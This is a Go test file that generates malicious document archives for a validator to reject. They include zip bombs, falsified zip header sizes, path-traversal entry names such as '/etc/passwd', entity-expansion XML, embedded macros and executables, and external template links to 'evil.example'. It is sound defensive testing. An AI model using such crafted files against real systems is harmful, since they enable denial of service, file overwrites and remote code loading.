package media

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"slices"
	"strings"
	"testing"
)

// containers are archives that are more than they seem.
func containers(t testing.TB) (list []hostile) {
	doc := openXMLOf(t, word)
	add := func(name string, data []byte, want ...Refusal) {
		list = append(list, hostile{name + ".docx", data, want})
	}
	zeros := strings.Repeat("\x00", 60<<20)
	add("60 MB of zeros", openXMLOf(t, word, entry{"word/media/a.png", zeros}), Bomb)
	add("ten times 60 MB", openXMLOf(t, word, entry{"a1", zeros}, entry{"a2", zeros}, entry{"a3", zeros}, entry{"a4", zeros}, entry{"a5", zeros}, entry{"a6", zeros}, entry{"a7", zeros}, entry{"a8", zeros}, entry{"a9", zeros}), Bomb)
	var many []entry
	for i := range maxEntries + 1 {
		many = append(many, entry{fmt.Sprint("e", i), ""})
	}
	add("many entries", openXMLOf(t, word, many...), Bomb)
	var names []entry
	for i := range 40 {
		names = append(names, entry{strings.Repeat("n", 60_000) + fmt.Sprint(i), ""})
	}
	add("long names", openXMLOf(t, word, names...), Bomb)
	add("huge types", openXMLOf(t, word+`"/><x a="`+strings.Repeat("y", maxXML)), Bomb)
	for i, lie := range []uint32{0, 1, 10, 1 << 30, 1<<32 - 2} { // of the inflated size of the last entry
		b := slices.Clone(doc)
		at := bytes.LastIndex(b, []byte("PK\x01\x02"))
		binary.LittleEndian.PutUint32(b[at+24:], lie)
		add(fmt.Sprint("a lie about size ", i), b, Bomb, Damaged)
		b = slices.Clone(doc)
		binary.LittleEndian.PutUint32(b[at+20:], lie) // the packed size
		add(fmt.Sprint("a lie about packed size ", i), b, Bomb, Damaged, NotAType)
		b = slices.Clone(doc)
		binary.LittleEndian.PutUint32(b[at+42:], lie) // the place: of the first entry if 0
		add(fmt.Sprint("a lie about place ", i), b, Bomb, Damaged, NotAType)
		b = slices.Clone(doc)
		binary.LittleEndian.PutUint32(b[at+16:], lie) // the sum
		add(fmt.Sprint("a lie about the sum ", i), b, Damaged)
		b = slices.Clone(doc)
		binary.LittleEndian.PutUint32(b[len(b)-10:], lie) // the length of the directory
		add(fmt.Sprint("a lie about the directory ", i), b, Bomb, Damaged)
	}
	for _, name := range []string{"../evil", "/etc/passwd", "a/../../b", `..\evil`, "a\x00b", "./a", "main.xml", "MAIN.xml"} {
		add(fmt.Sprintf("an entry %q", name), openXMLOf(t, word, entry{name, "x"}), NotAType)
	}
	b := slices.Clone(doc)
	b[bytes.LastIndex(b, []byte("PK\x01\x02"))+8] |= 1
	add("encrypted", b, NotAType)
	b = slices.Clone(doc)
	b[bytes.LastIndex(b, []byte("PK\x01\x02"))+10] = 14
	add("packed by LZMA", b, NotAType)
	add("a plain archive", zipOf(t, entry{"a.txt", "a"}), NotAType)
	add("an archive of nothing", zipOf(t), NotAType)
	add("an e-book", zipOf(t, entry{"mimetype", "application/epub+zip"}, entry{"META-INF/manifest.xml", "<x/>"}), NotAType)
	add("types that are no XML", zipOf(t, entry{"[Content_Types].xml", "<a><b"}), Damaged, NotAType)
	add("types with entities", openXMLOf(t, `&lol;`), NotAType, Damaged)
	add("a thousand levels", zipOf(t, entry{"[Content_Types].xml", strings.Repeat("<a>", 100_000)}), NotAType, Damaged)
	add("two documents", openXMLOf(t, word+`"/><x ContentType="`+sheet), NotAType)
	add("two kinds", openXMLOf(t, word, entry{"mimetype", ODT.MIME}), NotAType)
	add("encrypted OpenDocument", zipOf(t, entry{"mimetype", ODT.MIME}, entry{"META-INF/manifest.xml", "<m><encryption-data/></m>"}), NotAType)
	return list
}

// programs are documents that run something.
func programs(t testing.TB) (list []hostile) {
	for _, kind := range []string{"application/vnd.ms-word.document.macroEnabled.main+xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", "application/vnd.ms-office.vbaProject", "application/vnd.ms-office.activeX+xml"} {
		list = append(list, hostile{kind, openXMLOf(t, word+`"/><Default ContentType="`+kind), []Refusal{Macro}})
	}
	for _, name := range []string{"word/vbaProject.bin", "xl/VBAPROJECT.BIN", "xl/macrosheets/sheet1.xml", "word/activeX/activeX1.xml", "word/embeddings/a.docm", "word/embeddings/run.exe", "a.class", "META-INF/MANIFEST.MF", "x/evil.JS"} {
		list = append(list, hostile{name + ".docx", openXMLOf(t, word, entry{name, "x"}), []Refusal{Macro}})
	}
	for _, name := range []string{"Basic/Standard/Module1.xml", "Scripts/python/x.py"} {
		list = append(list, hostile{name + ".odt", openDocumentOf(t, ODT, entry{name, "x"}), []Refusal{Macro}})
	}
	const from = `<Relationships><Relationship Type="http://x/%s" TargetMode="External" Target="https://evil.example/x.dotm"/></Relationships>`
	for _, kind := range []string{"attachedTemplate", "oleObject", "frame"} {
		list = append(list, hostile{kind + ".docx", openXMLOf(t, word, entry{"word/_rels/settings.xml.rels", fmt.Sprintf(from, kind)}), []Refusal{Macro}})
	}
	return list
}
